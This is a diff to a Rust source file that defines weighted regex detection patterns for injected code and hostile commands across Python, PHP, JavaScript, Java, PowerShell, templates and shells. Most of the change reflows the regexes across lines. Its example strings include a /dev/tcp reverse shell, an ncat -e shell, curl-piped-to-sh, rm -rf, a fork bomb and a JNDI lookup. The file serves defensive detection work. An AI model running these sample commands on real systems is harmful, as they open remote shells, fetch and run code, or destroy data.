@@ -7,10 +7,13 @@ pub(super) const PATTERNS: &[Pattern] = &[
     Pattern {
         id: "python_process",
         description: "Python that starts a process (`os.system`, `subprocess`, `Popen`, `shell=True`)",
-        regex: r#"\b (?: (?:os|o|posix|pty|commands|sp|subp|subprocess|shutil) \s*\.\s* (?: system | popen[2-4]? | exec[lv]p?e? | spawn[lv]?p?e? | startfile | fork
-                | call | run | check_call | check_output | getoutput | getstatusoutput ) \s*\( \s* [^\s)]
-            | p?open[2-4]? \s*\( \s* ["'][^"'\n]* / | popen[2-4] \s*\( | Popen \s*\( \s* [^\s)] | exec_command \s*\( \s* ["'\w]
-            | shell \s*=\s* (?: ["']?true | \{ | false \) | [a-z_]+ \) ) | stdout \s*=\s* (?:\w+\.)? PIPE )"#,
+        regex: r#"\b (?: (?:os|o|posix|pty|commands|sp|subp|subprocess|shutil) \s*\.\s* (?: system | popen[2-4]?
+            | exec[lv]p?e? | spawn[lv]?p?e? | startfile | fork
+                | call | run | check_call | check_output | getoutput
+            | getstatusoutput ) \s*\( \s* [^\s)]
+            | \bpopen[2-4]? \s*\( \s* [^\s)] | Popen \s*\( \s* [^\s)] | exec_command \s*\( \s* ["'\w]
+            | shell \s*=\s* (?: ["']?true | \{ | false \) | [a-z_]+ \) )
+            | stdout \s*=\s* (?:\w+\.)? PIPE )"#,
         weight: 0.8,
         examples: &[
             "os.system('date')",
@@ -27,13 +30,21 @@ pub(super) const PATTERNS: &[Pattern] = &[
     Pattern {
         id: "python_code",
         description: "Python that runs code it is given (`eval`, `__import__`, `pickle`, unsafe `yaml.load`)",
-        regex: r#"(?: __import__ \s*\( \s* [^\s)] | __(?:builtins|subclasses|globals|mro|bases|reduce)__ | \b importlib \s*\.\s* (?: import_module | __import__ ) \s*\( \s* [^\s)]
-            | \b (?: eval | exec | execfile ) \s*\( \s* (?: ["'`] | compile | open | input | request | base64 | \$ | b["'] | __ )
-            | \b (?: c?pickle | dill | marshal | shelve | jsonpickle | joblib | yaml ) \s*\.\s* (?: loads? | unsafe_load | open | Unpickler | decode | encode | dump ) \s*\( \s* [^\s)]
-            | \b import \s+ (?: pty | pickle | dill | marshal | jsonpickle | telnetlib | ftplib | subprocess | ctypes ) \b | \b import \s+ (?: os | sys | socket ) (?: \s* $ | \s* [;,] | \s+ as \s )
+        regex: r#"(?: __import__ \s*\( \s* [^\s)] | __(?:builtins|subclasses|globals|mro|bases|reduce)__
+            | \b importlib \s*\.\s* (?: import_module | __import__ ) \s*\( \s* [^\s)]
+            | \b (?: eval | exec | execfile ) \s*\( \s* (?: ["'`] | compile | open | input | request
+            | base64 | \$ | b["'] | __ )
+            | \b (?: c?pickle | dill | marshal | shelve | jsonpickle | joblib
+            | yaml ) \s*\.\s* (?: loads? | unsafe_load | open | Unpickler | decode | encode
+            | dump ) \s*\( \s* [^\s)]
+            | \b import \s+ (?: pty | pickle | dill | marshal | jsonpickle | telnetlib | ftplib
+            | subprocess | ctypes ) \b | \b import \s+ (?: os | sys | socket ) (?: \s* $ | \s* [;,]
+            | \s+ as \s )
             | ^\s* import \s+ (?: os | sys ) \b | \b from \s+ \.+ \s+ import \s+ (?: os | sys )
-            | \b from \s+ (?: os | pickle | dill | subprocess | telnetlib | ftplib | pty | ctypes ) \s+ import \s
-            | \b (?: telnetlib | ftplib ) \s*\.\s* (?: Telnet | FTP ) | \b (?: SafeLoader | UnsafeLoader | FullLoader ) \b )"#,
+            | \b from \s+ (?: os | pickle | dill | subprocess | telnetlib | ftplib | pty
+            | ctypes ) \s+ import \s
+            | \b (?: telnetlib | ftplib ) \s*\.\s* (?: Telnet | FTP ) | \b (?: SafeLoader | UnsafeLoader
+            | FullLoader ) \b )"#,
         weight: 0.7,
         examples: &[
             "eval('1+1')",
@@ -53,8 +64,10 @@ pub(super) const PATTERNS: &[Pattern] = &[
         id: "php_code",
         description: "PHP that runs code or commands, or reads request variables",
         regex: r#"(?: <\?(?:php\b|=) | \$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES)\b | \bphpinfo \s*\(
-            | \b (?: system | passthru | shell_exec | proc_open | pcntl_exec | assert | popen | exec ) \s*\( \s* ["'`$]
-            | \{\$\{ | \b call_user_func(?:_array)? \s*\( | \b preg_replace \s*\( \s* ["'][^\n]*/e["'] )"#,
+            | \b (?: system | passthru | shell_exec | proc_open | pcntl_exec | assert | popen
+            | exec ) \s*\( \s* ["'`$]
+            | \{\$\{ | \b call_user_func(?:_array)? \s*\(
+            | \b preg_replace \s*\( \s* ["'][^\n]*/e["'] )"#,
         weight: 0.8,
         examples: &["<?php echo 1; ?>", "system(\"date\")", "$_REQUEST['x']", "x{${phpinfo()}}"],
         counter_examples: &["the system (new)", "PHP files", "exec (see below)"],
@@ -64,9 +77,12 @@ pub(super) const PATTERNS: &[Pattern] = &[
         id: "javascript_code",
         description: "JavaScript that starts a process, builds code from text or sits in a page",
         regex: r#"(?: require \s*\( \s* ["'`] (?:node:)? (?: child_process | vm | fs | net | os ) ["'`]
-            | \bchild_process \s*[.)] | \bprocess \s*\.\s* (?: binding | mainModule | dlopen ) | constructor \s*[.\]\[("']+ \s* constructor | \bnew \s+ Function \s*\(
-            | \bFunction \s*\( \s* ["'`] | <script\b [^>\n]* > [^<\n]*\( | <script\b [^>\n]* \bsrc \s*= | \bon(?:error|load|click|mouseover) \s*=\s* ["']?\s*[\w.]+ \s*[(=]
-            | \b (?: setTimeout | setInterval ) \s*\( \s* ["'`] | ["';)] \s* alert \s*\( | \bdocument \s*\.\s* (?: cookie | write ) )"#,
+            | \bchild_process \s*[.)] | \bprocess \s*\.\s* (?: binding | mainModule | dlopen )
+            | constructor \s*[.\]\[("']+ \s* constructor | \bnew \s+ Function \s*\(
+            | \bFunction \s*\( \s* ["'`] | <script\b [^>\n]* > [^<\n]*\( | <script\b [^>\n]* \bsrc \s*=
+            | \bon(?:error|load|click|mouseover) \s*=\s* ["']?\s*[\w.]+ \s*[(=]
+            | \b (?: setTimeout | setInterval ) \s*\( \s* ["'`] | ["';)] \s* alert \s*\(
+            | \bdocument \s*\.\s* (?: cookie | write ) )"#,
         weight: 0.7,
         examples: &[
             "require('child_process').exec('date')",
@@ -84,8 +100,11 @@ pub(super) const PATTERNS: &[Pattern] = &[
     Pattern {
         id: "java_code",
         description: "Java and .NET that start a process or look names up (`Runtime`, JNDI, OGNL)",
-        regex: r#"(?: \$\{ \s* (?: jndi | (?:lower|upper|env|sys): | (?: env | : ) [^}\n]* :- | [^}\n]* \$\{ [^}\n]* :- ) | Runtime \s*\.\s* getRuntime \s*\(\s*\) | \bProcessBuilder \s*\( \s* [^\s)]
-            | \bT\( \s* java\. | %\{ \s* [\#(] | \#\{ \s* T\( | \#_memberAccess | \bProcess\.Start \s*\( | \bScriptEngineManager \s*\( )"#,
+        regex: r#"(?: \$\{ \s* (?: jndi | (?:lower|upper|env|sys): | (?: env | : ) [^}\n]* :-
+            | [^}\n]* \$\{ [^}\n]* :- ) | Runtime \s*\.\s* getRuntime \s*\(\s*\)
+            | \bProcessBuilder \s*\( \s* [^\s)]
+            | \bT\( \s* java\. | %\{ \s* [\#(] | \#\{ \s* T\( | \#_memberAccess | \bProcess\.Start \s*\(
+            | \bScriptEngineManager \s*\( )"#,
         weight: 0.8,
         examples: &["${jndi:ldap://h/a}", "Runtime.getRuntime().exec(x)", "${${lower:j}ndi:x}"],
         counter_examples: &["Java runtime", "${NAME}", "ProcessBuilder is old"],
@@ -94,9 +113,13 @@ pub(super) const PATTERNS: &[Pattern] = &[
     Pattern {
         id: "powershell",
         description: "PowerShell that runs or fetches code",
-        regex: r#"(?: \b (?: powershell | pwsh ) (?:\.exe)? (?: ["'/\s]+ - (?: e | en | enc\w* | ec | nop\w* | noni\w* | w | windowst\w* | c | command | f | file | ep | exec\w* ) \b | \s+ ["'&{(] | \s+ [a-z]: )
-            | \b (?: iex | invoke-expression | invoke-command ) \b \s* [\s("'$&\[{] [^\n]*? [("'$] | \b invoke-(?: webrequest | restmethod ) \s+ \S
-            | \.\s*download(?:string|file|data) \s*\( | frombase64string \s*\( | new-object \s+ (?:system\.)? net\. | \bstart-process \s+ (?: - | ["'$] | [\w:\\/.-]+ \. \w{2,4} \b ) | \badd-type \s+ - )"#,
+        regex: r#"(?: \b (?: powershell | pwsh ) (?:\.exe)? (?: ["'/\s]+ - (?: e | en | enc\w* | ec | nop\w* | noni\w*
+            | w | windowst\w* | c | command | f | file | ep | exec\w* ) \b | \s+ ["'&{(] | \s+ [a-z]: )
+            | \b (?: iex | invoke-expression | invoke-command ) \b \s* [\s("'$&\[{] [^\n]*? [("'$]
+            | \b invoke-(?: webrequest | restmethod ) \s+ \S
+            | \.\s*download(?:string|file|data) \s*\( | frombase64string \s*\(
+            | new-object \s+ (?:system\.)? net\. | \bstart-process \s+ (?: - | ["'$]
+            | [\w:\\/.-]+ \. \w{2,4} \b ) | \badd-type \s+ - )"#,
         weight: 0.8,
         examples: &[
             "powershell -enc SQBFAFgA",
@@ -112,8 +135,12 @@ pub(super) const PATTERNS: &[Pattern] = &[
     Pattern {
         id: "template_code",
         description: "a template expression or server-side include that runs code",
-        regex: r#"(?: <!-{0,2}\s*\# \s* (?: exec | include | echo | config ) \b | \{\{ [^}\n]* (?: __\w+__ | \b(?:config|self|request|lipsum|cycler|joiner)\s*[.\[(] | popen | system\s*\( | exec\s*\( | \d\s*[*+]\s*['"]?\d | \b get_user_file | ["']/(?:etc|proc)/ )
-            | <%= [^%\n]* (?: system | exec | `|\d\s*\*\s*\d ) | \$\{ \s* \d+ \s*[*+-]\s* \d+ \s* \} | \#\{ \s* \d+ \s*\*\s* \d+ \s* \} | \{% \s* (?: for | if | set | import | include | debug | raw ) \b [^%\n]* % \}
+        regex: r#"(?: <!-{0,2}\s*\# \s* (?: exec | include | echo | config ) \b | \{\{ [^}\n]* (?: __\w+__
+            | \b(?:config|self|request|lipsum|cycler|joiner)\s*[.\[(] | popen | system\s*\( | exec\s*\(
+            | \d\s*[*+]\s*['"]?\d | \b get_user_file | ["']/(?:etc|proc)/ )
+            | <%= [^%\n]* (?: system | exec | `|\d\s*\*\s*\d ) | \$\{ \s* \d+ \s*[*+-]\s* \d+ \s* \}
+            | \#\{ \s* \d+ \s*\*\s* \d+ \s* \} | \{% \s* (?: for | if | set | import | include | debug
+            | raw ) \b [^%\n]* % \}
             | \{\d\} \s* \+ \s* \{\d\} )"#,
         weight: 0.7,
         examples: &[
@@ -137,7 +164,9 @@ pub(super) const PATTERNS: &[Pattern] = &[
     Pattern {
         id: "reverse_shell",
         description: "a shell handed to the network",
-        regex: r#"(?: /dev/(?:tcp|udp)/ | \b (?: nc | ncat | netcat ) \b [^\n]* \s -{1,2} (?: e | c | exec | [lnvup]*l[lnvup]* | [a-z]*e ) \b | \b (?: ba | z | k )?sh \s+ -i \b | \bsocat\b [^\n]* \bexec: | \bmkfifo\s+/
+        regex: r#"(?: /dev/(?:tcp|udp)/ | \b (?: nc | ncat | netcat ) \b [^\n]* \s -{1,2} (?: e | c | exec
+            | [lnvup]*l[lnvup]* | [a-z]*e ) \b | \b (?: ba | z | k )?sh \s+ -i \b
+            | \bsocat\b [^\n]* \bexec: | \bmkfifo\s+/
             | \bfsockopen \s*\( | \bTCPSocket\.(?:new|open) | \buse \s+ Socket \s*; | \bpty\.spawn )"#,
         weight: 0.9,
         examples: &["bash -i >& /dev/tcp/10.1.1.1/99 0>&1", "nc -lvp 99", "ncat h 1 -e /bin/sh"],
@@ -147,7 +176,10 @@ pub(super) const PATTERNS: &[Pattern] = &[
     Pattern {
         id: "inline_script",
         description: "an interpreter given its program on the command line",
-        regex: r#"\b (?: (?: python[\d.]* | perl | ruby | node | lua | bash | z?sh | dash | osascript ) \s+ -\w*[ecE] \s+ \$?["'`] | php \s+ -r \s*["'] | awk \s+ ["'] \s* BEGIN | busybox \s+ \w | (?: sudo | env | xargs | nohup | setsid ) \s+ (?: -\S+ \s+ )* (?:/bin/|/usr/bin/)?(?: ba | z )?sh \s+ [-/] )"#,
+        regex: r#"\b (?: (?: python[\d.]* | perl | ruby | node | lua | bash | z?sh | dash
+            | osascript ) \s+ -\w*[ecE] \s+ \$?["'`] | php \s+ -r \s*["'] | awk \s+ ["'] \s* BEGIN
+            | busybox \s+ \w | (?: sudo | env | xargs | nohup
+            | setsid ) \s+ (?: -\S+ \s+ )* (?:/bin/|/usr/bin/)?(?: ba | z )?sh \s+ [-/] )"#,
         weight: 0.8,
         examples: &["python3 -c 'print(1)'", "perl -e \"print 1\"", "sh -c 'date'"],
         counter_examples: &["python scripts", "perl -e", "the node -e flag"],
@@ -156,8 +188,11 @@ pub(super) const PATTERNS: &[Pattern] = &[
     Pattern {
         id: "download_and_run",
         description: "something fetched from the network and run or stored",
-        regex: r#"\b (?: curl | wget | fetch | lwp-download | aria2c ) (?:\.exe)? \b (?: [^\n|;]* \| \s* (?: sudo \s+ )? (?: ba | z | k | da )?sh \b | [^\n|;]* \| \s* (?: python | perl | ruby | php )
-            | [\s+]+ (?: -\S+ \s+ (?: [\w./-]+ \s+ )? )* ["']? (?: https? | ftp | file ) : | [\s+]+ -{1,2} [a-z][^\n]* \s [\w./-]*\.\w | \s+ \d{1,3}(?:\.\d{1,3}){3} )"#,
+        regex: r#"\b (?: curl | wget | fetch | lwp-download
+            | aria2c ) (?:\.exe)? \b (?: [^\n|;]* \| \s* (?: sudo \s+ )? (?: ba | z | k | da )?sh \b
+            | [^\n|;]* \| \s* (?: python | perl | ruby | php )
+            | [\s+]+ (?: -\S+ \s+ (?: [\w./-]+ \s+ )? )* ["']? (?: https? | ftp | file ) :
+            | [\s+]+ -{1,2} [a-z][^\n]* \s [\w./-]*\.\w | \s+ \d{1,3}(?:\.\d{1,3}){3} )"#,
         weight: 0.8,
         examples: &["curl -s x.sh | sh", "wget http://h/x", "curl -o a.sh h.example"],
         counter_examples: &[
@@ -170,8 +205,11 @@ pub(super) const PATTERNS: &[Pattern] = &[
     Pattern {
         id: "destructive_command",
         description: "a command that destroys files, disks or the machine's service",
-        regex: r"(?: \brm \s+ -{1,2}[a-z-]*[rf][a-z-]* \s+ (?: -\S+\s+ )* [\w/.*~$\x22'] | \bmkfs(?:\.\w+)? \s+ /dev | \bdd \s+ (?:if|of)= | :\s*\(\s*\)\s*\{ \s* : \s* \| | > \s* /dev/[sh]d[a-z] | \bchmod \s+ (?:-\w+\s+)? (?: 0?777 | [ugo]*\+s | 4755 ) \s
-            | \b shutdown \s+ [-/][a-z] | \bformat \s+ [a-z]: | \bdel \s+ /[fsq] | \brmdir \s+ /s | \bvssadmin \s+ delete | \bkill(?:all)? \s+ -9 \s+ [\d$%] )",
+        regex: r"(?: \brm \s+ -{1,2}[a-z-]*[rf][a-z-]* \s+ (?: -\S+\s+ )* [\w/.*~$\x22'] | \bmkfs(?:\.\w+)? \s+ /dev
+            | \bdd \s+ (?:if|of)= | :\s*\(\s*\)\s*\{ \s* : \s* \| | > \s* /dev/[sh]d[a-z]
+            | \bchmod \s+ (?:-\w+\s+)? (?: 0?777 | [ugo]*\+s | 4755 ) \s
+            | \b shutdown \s+ [-/][a-z] | \bformat \s+ [a-z]: | \bdel \s+ /[fsq] | \brmdir \s+ /s
+            | \bvssadmin \s+ delete | \bkill(?:all)? \s+ -9 \s+ [\d$%] )",
         weight: 0.8,
         examples: &["rm -rf /var/x", "dd if=/dev/zero of=x", ":(){ :|:& };:", "kill -9 1"],
         counter_examples: &["rm the old file", "format the code", "kill -9 is rude"],
@@ -180,9 +218,15 @@ pub(super) const PATTERNS: &[Pattern] = &[
     Pattern {
         id: "windows_command",
         description: "a Windows command with its arguments or variables",
-        regex: r#"(?: \bcmd (?:\.exe)? \s* /[ckrv]\b | \bnet1? [\s+]+ (?: user | localgroup | group | view | share | use | start | stop | accounts ) \b (?: \s* $ | [^\n]{0,60} [\s+] (?: /[a-z] | \\\\ ) ) | \bnetsh [\s+]+ (?: \w+ [\s+]+ )+ \w
-            | \breg (?:\.exe)? [\s+]+ (?: add | delete | query | save | export ) [\s+]+ ["']?HK | \b (?: dir | type | copy | del | cd | start ) [\s+]+ (?: /\w\s+ )* ["']? (?: [a-z]:[\\/%]? | %\w+% | \\\\ ) | \bipconfig \s+ / | \bschtasks \s+ / | \bwmic \s+ \w+ \s+ \w
-            | \b certutil (?:\.exe)? \s+ - | \b (?: mshta | rundll32 | regsvr32 | bitsadmin ) (?:\.exe)? \s+ [\w/\\"'h] | % (?: systemroot | windir | comspec | programfiles | appdata | userprofile | temp | path | os ) (?: % | :~ ) | \bHKEY_\w+ \\ )"#,
+        regex: r#"(?: \bcmd (?:\.exe)? \s* /[ckrv]\b | \bnet1? [\s+]+ (?: user | localgroup | group | view | share
+            | use | start | stop | accounts ) \b (?: \s* $ | [^\n]{0,60} [\s+] (?: /[a-z] | \\\\ ) )
+            | \bnetsh [\s+]+ (?: \w+ [\s+]+ )+ \w
+            | \breg (?:\.exe)? [\s+]+ (?: add | delete | query | save | export ) [\s+]+ ["']?HK
+            | \b (?: dir | type | copy | del | cd | start ) [\s+]+ (?: /\w\s+ )* ["']? (?: [a-z]:[\\/%]?
+            | %\w+% | \\\\ ) | \bipconfig \s+ / | \bschtasks \s+ / | \bwmic \s+ \w+ \s+ \w
+            | \b certutil (?:\.exe)? \s+ - | \b (?: mshta | rundll32 | regsvr32
+            | bitsadmin ) (?:\.exe)? \s+ [\w/\\"'h] | % (?: systemroot | windir | comspec | programfiles
+            | appdata | userprofile | temp | path | os ) (?: % | :~ ) | \bHKEY_\w+ \\ )"#,
         weight: 0.8,
         examples: &[
             "cmd /c date",
